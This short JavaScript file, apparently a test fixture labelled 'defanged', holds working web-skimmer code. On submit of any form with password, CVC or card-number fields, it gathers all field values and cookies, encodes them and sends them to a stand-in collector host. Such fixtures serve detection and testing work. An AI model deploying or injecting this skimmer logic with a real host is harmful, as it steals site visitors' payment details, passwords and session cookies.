// defanged fixture: skimmer shape; the collector host is .invalid
for (var a = 0; a < document.forms.length; a++) {
  var s = document.forms[a].elements;
  for (var u = 0; u < s.length; u++) {
    if ('password' == s[u].type || 'cvc' == s[u].name.toLowerCase() || 'cardnumber' == s[u].name.toLowerCase()) {
      document.forms[a].addEventListener('submit', function () {
        var n = '';
        for (var o = 0; o < this.elements.length; o++) n += this.elements[o].name + ':' + this.elements[o].value + ':';
        new Image().src = 'https://collect.example.invalid/i?d=' + encodeURIComponent(btoa(n + '|' + document.cookie));
      });
    }
  }
}
